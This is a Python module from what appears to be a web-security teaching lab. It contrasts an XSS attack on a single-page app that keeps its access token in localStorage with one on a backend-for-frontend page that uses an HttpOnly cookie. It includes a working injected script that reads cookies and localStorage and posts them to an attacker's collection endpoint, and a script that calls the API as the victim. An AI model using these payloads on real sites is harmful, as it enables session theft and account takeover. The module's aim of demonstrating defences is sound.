"""Chapter 07: one injected script against the two places a browser app can keep its credential.

* :func:`xss_on_spa`: the single-page app keeps its access token in ``localStorage``. The
  script reads it and sends it to the attacker's site; the attacker then uses it from Python,
  with no browser, after the victim closed the tab, until the token's ``exp``.
* :func:`xss_on_bff`: chapter 05's BFF page holds only an ``HttpOnly`` cookie. The same script
  finds no credential to send, yet a script in the page can still call the BFF as the victim
  (the browser adds the cookie), as long as the page is open and logged in.

    >>> print(xss.STEAL)                  # the attacker's script
    >>> print(xss_on_spa(lab))            # or xss_on_bff(lab)

Each experiment uses a fresh browser profile, closed at the end. The script runs through
:meth:`Tab.run`, that is through DevTools, which is what "an XSS happened" assumes: a page's
``script-src`` does not stop it, but the page's other CSP rules (``connect-src``) still apply
to what it fetches.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

import jwt

from ..users import PASSWORDS

#: The injected script: read what a script of the page can read, send it to ``collect`` (a
#: text/plain POST, a "simple" request: no preflight), and say whether the send went out.
STEAL = """async (collect) => {
  const loot = {cookie: document.cookie, localStorage: {...localStorage}};
  loot.sent = await fetch(collect, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)})
    .then(() => "sent", () => "blocked");
  return loot;
}"""

#: A script in the BFF page calling the API as the victim: same origin, so the browser adds
#: the HttpOnly cookie, and any script of the page may add the custom header.
ACT_AS_VICTIM = """async () => {
  const r = await fetch("/bff/api/me", {headers: {"X-CSRF": "1"}});
  return {status: r.status, body: await r.text()};
}"""

USER = "alice"
#: Seconds before and after the stolen token's last valid moment that the attacker tries it.
MARGIN = 10


def _stolen(loot: dict) -> str:
    """What a script read, in words: ``document.cookie "", localStorage: access_token``."""
    keys = ", ".join(sorted(loot.get("localStorage", {}))) or "empty"
    return f"document.cookie {json.dumps(loot.get('cookie', ''))}, localStorage: {keys}"


def _new_loot(lab, before: int) -> list[dict]:
    """What reached the attacker's ``/collect`` since it held ``before`` entries."""
    return [json.loads(e["data"]) for e in lab.attacker.http.get("/loot").json()["loot"][before:]]


def _loot_count(lab) -> int:
    return len(lab.attacker.http.get("/loot").json()["loot"])


def _answer(response) -> str:
    """An API answer in a few stable words: ``200 alice`` or ``401 invalid_token``."""
    try:
        body = response.json()
    except ValueError:
        body = {}
    return f"{response.status_code} {body.get('sub') or body.get('error', '')}".strip()


@dataclass(frozen=True)
class SpaXss:
    """The script on the single-page app (token in ``localStorage``), and what followed."""

    read: dict  # what the script read in the page: cookie, localStorage, sent
    arrived: list[dict]  # what reached the attacker's /collect
    token_sub: str  # the sub of the token that arrived ("" if none did)
    token_lifetime: int  # exp - iat of that token, seconds
    leeway: int  # seconds past exp the API still accepts it
    attacker_calls: tuple[tuple[str, str], ...]  # (when, answer) of the attacker's /api/me

    @property
    def token_stolen(self) -> bool:
        return bool(self.token_sub)

    def answers(self) -> dict[str, int]:
        """The attacker's /api/me statuses by moment, for tests."""
        return {when: int(answer.split()[0]) for when, answer in self.attacker_calls}

    def __str__(self) -> str:
        got = (
            f"access_token: a JWT for sub {self.token_sub}, "
            f"valid {self.token_lifetime} s (+{self.leeway} s leeway)"
            if self.token_stolen
            else "no token"
        )
        rows = [
            f"XSS on the single-page app (/browser/spa/), logged in as {USER} through its form",
            f"  the script read:            {_stolen(self.read)}",
            f"  its send to the attacker:   {self.read.get('sent')}",
            f"  the attacker received:      {got}",
            "  the attacker calls /api/me with it, from Python (no browser):",
        ]
        rows += [f"    {when:<44}{answer}" for when, answer in self.attacker_calls]
        return "\n".join(rows)


def _log_in_spa(tab) -> None:
    tab.fill("input[name=password]", PASSWORDS[USER])
    tab.click("button[type=submit]")
    tab.wait_for_text("#status", f"Logged in as {USER}")


def xss_on_spa(lab) -> SpaXss:
    """Log in on the SPA, inject :data:`STEAL`, then use what arrived as the attacker would.

    Advances ``lab.clock`` past the stolen token's ``exp`` (plus the API's leeway).
    """
    attacker = lab.client("attacker")
    collect = lab.attacker.url + "/collect"
    before = _loot_count(lab)
    with lab.browser() as browser:
        tab = browser.open("/browser/spa/")
        _log_in_spa(tab)
        read = tab.run(STEAL, collect)
        arrived = _new_loot(lab, before)
        token = next((a["localStorage"].get("access_token", "") for a in arrived), "")

        def call() -> str:
            return _answer(attacker.get("/api/me", headers={"Authorization": f"Bearer {token}"}))

        calls = [("right away", call())]
        tab.close()
        calls.append(("after the victim closed the tab", call()))
    claims = jwt.decode(token, options={"verify_signature": False}) if token else {}
    leeway = int(lab.app.config["TOKEN_LEEWAY"])
    if claims:
        # 10 s either side of the boundary, so a lab with a ticking clock gives the same answer.
        lab.clock.advance_to(max(lab.clock.now(), claims["exp"] + leeway - MARGIN))
        calls.append((f"{MARGIN} s before exp + leeway (lab clock)", call()))
        lab.clock.advance(2 * MARGIN)
        calls.append((f"{MARGIN} s after exp + leeway (lab clock)", call()))
    return SpaXss(
        read=read,
        arrived=arrived,
        token_sub=claims.get("sub", ""),
        token_lifetime=int(claims["exp"] - claims["iat"]) if claims else 0,
        leeway=leeway,
        attacker_calls=tuple(calls),
    )


@dataclass(frozen=True)
class BffXss:
    """The script on the BFF page (an HttpOnly cookie), and what it could still do."""

    read: dict  # what STEAL read on /bff/ (its send is refused by the page's CSP)
    read_without_csp: dict  # the same script on /browser/arrived, same origin, no CSP
    arrived: list[dict]  # what reached the attacker's /collect
    stored: tuple[str, ...]  # "name (HttpOnly)" of the cookies the browser holds
    in_page: dict  # ACT_AS_VICTIM's status and body, while logged in
    answer_has_token: bool  # whether that answer (or anything read) holds a JWT
    bff_sent_bearer: bool  # the request log: the BFF called /api/me with a bearer token
    from_outside: int  # the attacker's /bff/api/me from Python, with what it stole
    after_logout: dict  # ACT_AS_VICTIM in the same page, after the victim logged out

    @property
    def credential_stolen(self) -> bool:
        """Whether anything that reached the attacker is a credential (cookie or token)."""
        return any(a.get("cookie") or a.get("localStorage") for a in self.arrived)

    def __str__(self) -> str:
        yes_no = {True: "yes", False: "no"}
        sub = _body_sub(self.in_page)
        received = (
            "; ".join(_stolen(a) for a in self.arrived) if self.arrived else "nothing arrived"
        )
        return "\n".join(
            [
                f"XSS on the BFF page (/bff/), logged in as {USER} through its form",
                f"  the browser holds:          {', '.join(self.stored)}",
                f"  the script read:            {_stolen(self.read)}",
                f"  its send to the attacker:   {self.read.get('sent')} (the page's CSP: "
                "default-src 'self')",
                f"  same script, same origin, a page without CSP (/browser/arrived): "
                f"{self.read_without_csp.get('sent')}",
                f"  the attacker received:      {received}",
                f"  a credential reached it:    {yes_no[self.credential_stolen]}",
                "  but the script, in the open page, calls /bff/api/me with X-CSRF: 1:",
                f"    while the victim is logged in              {self.in_page['status']} {sub}",
                f"    a token in the BFF's answer                {yes_no[self.answer_has_token]}"
                f" (the BFF itself called the API with a bearer token: "
                f"{yes_no[self.bff_sent_bearer]})",
                f"    after the victim logged out (same page)    {self.after_logout['status']}",
                f"  the attacker calls /bff/api/me from Python with what it stole: "
                f"{self.from_outside}",
            ]
        )


def _body_sub(answer: dict) -> str:
    try:
        return json.loads(answer.get("body", "")).get("sub", "")
    except (ValueError, AttributeError):
        return ""


def _log_in_bff(tab) -> None:
    tab.fill("input[name=password]", PASSWORDS[USER])
    tab.click_and_wait("button[type=submit]")
    tab.wait_for_text("#status", f"Logged in as {USER}")


def xss_on_bff(lab) -> BffXss:
    """Log in on the BFF page, inject :data:`STEAL` and :data:`ACT_AS_VICTIM`; log out; again."""
    collect = lab.attacker.url + "/collect"
    before = _loot_count(lab)
    with lab.browser() as browser:
        tab = browser.open("/bff/")
        _log_in_bff(tab)
        stored = tuple(c.name + " (HttpOnly)" * c.http_only for c in browser.cookies(lab.url + "/"))
        read = tab.run(STEAL, collect)
        other = browser.open("/browser/arrived")
        read_without_csp = other.run(STEAL, collect)
        other.close()
        arrived = _new_loot(lab, before)
        logged = len(lab.request_log.entries)
        in_page = tab.run(ACT_AS_VICTIM)
        hop = [e for e in lab.request_log.entries[logged:] if e.path == "/api/me"]
        bff_sent_bearer = bool(hop) and hop[-1].credential.startswith("Bearer ")
        seen = json.dumps([read, read_without_csp, in_page])
        outsider = lab.client("attacker")
        for loot in arrived:  # whatever it got: the cookie string it read, if any
            if loot.get("cookie"):
                outsider.headers["Cookie"] = loot["cookie"]
        from_outside = outsider.get("/bff/api/me", headers={"X-CSRF": "1"}).status_code
        tab.click("#logout")
        tab.wait_for_text("#status", "Not logged in")
        after_logout = tab.run(ACT_AS_VICTIM)
    return BffXss(
        read=read,
        read_without_csp=read_without_csp,
        arrived=arrived,
        stored=stored,
        in_page=in_page,
        answer_has_token="eyJ" in seen,
        bff_sent_bearer=bff_sent_bearer,
        from_outside=from_outside,
        after_logout=after_logout,
    )
